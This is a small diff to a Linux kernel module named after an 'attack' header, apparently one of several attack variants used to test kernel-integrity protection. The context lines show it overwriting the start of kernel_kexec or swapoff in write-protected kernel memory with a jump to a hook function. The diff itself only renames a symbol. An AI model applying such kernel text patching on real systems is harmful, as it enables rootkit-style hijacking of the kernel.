@@ -6,7 +6,7 @@
  */
 #include "attack.h"
 
-KERNEL_SYMBOL(__x64_sys_swapoff);
+KERNEL_SYMBOL_SWAPOFF;
 KERNEL_SYMBOL(kernel_kexec);
 VARIANT("prologue");
 
@@ -21,9 +21,9 @@ static int __init start(void)
 {
 	u8 bytes[5];
 
-	if (!__x64_sys_swapoff_at || !kernel_kexec_at)
+	if (!swapoff_at || !kernel_kexec_at)
 		return -ENOENT;
-	site = HOW("middle") ? (u8 *)kernel_kexec_at + 60 : ftrace_site(__x64_sys_swapoff_at) + 5;
+	site = HOW("middle") ? (u8 *)kernel_kexec_at + 60 : ftrace_site(swapoff_at) + 5;
 	memcpy(original, site, 5);
 	branch(bytes, 0xe9, site, hooked_function);
 	write_protected(site, bytes, 5);
